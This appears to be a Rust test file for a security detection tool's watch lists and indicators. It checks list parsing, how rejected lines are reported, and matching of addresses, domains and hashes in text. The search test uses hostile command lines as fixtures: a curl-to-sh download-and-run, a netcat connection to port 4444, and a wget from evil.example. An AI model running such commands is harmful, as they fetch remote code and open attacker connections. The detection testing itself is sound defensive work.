use super::*;

fn refused(kind: ListKind, text: &str) -> String {
    let refused = Lists::default()
        .set(kind, "list.txt", text)
        .expect_err("refused");
    refused.to_string()
}

#[test]
fn lists_are_taken_whole_noted_and_taken_back() {
    let mut lists = Lists::default();
    let own = "[[indicator]]\nid='own-a'\ngroup='EXE'\nos='any'\nwhat='w'\nre='zap'\npos='zap'\nneg='n'\ntechnique='T1059'\nweight=3\n";
    for (kind, text, entries) in [
        (
            ListKind::AddressRanges,
            "prefix,tag\n20.42.0.0/17,AzureCloud.x\n",
            1,
        ),
        (
            ListKind::PrivilegedRoles,
            "# ours\n/providers/x/roleDefinitions/8E3AF657-a8ff-443c-a75c-2fe8c4bcb635\n",
            1,
        ),
        (
            ListKind::KnownAutomation,
            "principal\nPatch@contoso.example\n8e3af657a8ff443ca75c2fe8c4bcb635\n",
            2,
        ),
        (
            ListKind::WatchList,
            "203.0.113.7,first stage\nevil[.]example\n",
            2,
        ),
        (ListKind::Indicators, own, 1),
        (ListKind::ScriptWriters, "# ours\nDeploy.exe\nwriter\n", 2),
    ] {
        lists.set(kind, "list_20240429.txt", text).expect("a list");
        let note = lists
            .notes()
            .iter()
            .find(|note| note.kind == kind)
            .expect("noted");
        assert_eq!((note.entries, note.sha256.len()), (entries, 64));
        assert_eq!(ListKind::of(kind.word()), Some(kind));
    }
    let words: Vec<&str> = lists.notes().iter().map(|note| note.kind.word()).collect();
    assert!(words.is_sorted());
    assert!(
        lists
            .address_ranges
            .as_ref()
            .is_some_and(|ranges| ranges.listed().is_some())
    );
    assert!(lists.known_automation.contains("patch@contoso.example"));
    for kind in ListKind::ALL {
        lists.remove(kind);
    }
    assert!(lists.notes().is_empty() && lists.watch.is_empty() && lists.content.own.is_none());
}

#[test]
fn refusals_name_the_line() {
    assert_eq!(
        refused(ListKind::PrivilegedRoles, "id\nOwner\n"),
        "list.txt, line 2: \"Owner\" is no role definition id"
    );
    assert_eq!(
        refused(ListKind::KnownAutomation, "a@b.example\nsome body\n"),
        "list.txt, line 2: \"some body\" is no UPN and no object id"
    );
    assert_eq!(
        refused(ListKind::WatchList, "203.0.113.7\n\nnot one\n"),
        "list.txt, line 3: \"not one\" is no address, prefix, domain or hash"
    );
    assert_eq!(
        refused(ListKind::WatchList, "# nothing\n"),
        "list.txt: it holds no address, prefix, domain or hash"
    );
    assert!(
        refused(ListKind::AddressRanges, "10.0.0.0/8,x\nfoo\n").starts_with("list.txt, line 2: ")
    );
    assert!(
        refused(ListKind::Indicators, "[[indicator]]\nid=7\n").starts_with("list.txt, line 2: ")
    );
    let taken = "[[indicator]]\nid='dl-sh-pipe'\ngroup='DL'\nos='any'\nwhat='w'\nre='zap'\npos='zap'\nneg='n'\ntechnique='T1059'\nweight=3\n";
    assert_eq!(
        refused(ListKind::Indicators, taken),
        "list.txt: dl-sh-pipe is the id of a built-in indicator"
    );
    // What there was stays.
    let mut lists = Lists::default();
    lists
        .set(ListKind::WatchList, "a", "203.0.113.7")
        .expect("a list");
    assert!(
        lists
            .set(ListKind::WatchList, "b", "203.0.113.8\n?\n")
            .is_err()
    );
    assert_eq!(lists.watch.find_address("203.0.113.7"), Some(0));
}

#[test]
fn a_text_is_searched_word_by_word() {
    let list = WatchList::parse("203.0.113.7\n198.51.100.0/24\nevil.example\n44d88612fea8a8f36de82e1278abb02f\n2001:db8::7\n").expect("a list");
    for (text, found) in [
        ("curl http://203.0.113.7:8080/x | sh", vec![0]),
        (
            "nc 198.51.100.99 4444; wget https://www.EVIL.example/a",
            vec![1, 2],
        ),
        ("echo 44D88612FEA8A8F36DE82E1278ABB02F x", vec![3]),
        ("ping6 2001:db8::7", vec![4]),
        (
            "curl http://203.0.113.70/ notevil.example evil.example.org",
            vec![],
        ),
        ("", vec![]),
    ] {
        assert_eq!(list.search(text), found, "{text}");
    }
}
